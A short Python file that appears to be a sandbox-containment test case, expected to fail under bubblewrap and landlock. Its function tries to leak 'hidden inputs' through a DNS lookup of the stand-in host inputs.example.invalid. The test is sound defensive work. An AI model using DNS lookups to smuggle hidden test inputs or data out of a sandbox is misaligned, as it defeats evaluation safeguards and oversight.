"""Send the hidden inputs in the name of a host that is looked up."""

import socket

ATTACK = "DNS"
OUTCOME = "failed"
TIERS = ("bubblewrap", "landlock")
SAYS = "PermissionError|unreachable|ConnectionRefused|OSError|gaierror|FileNotFoundError"


def double(x):
    socket.getaddrinfo("inputs.example.invalid", 80)
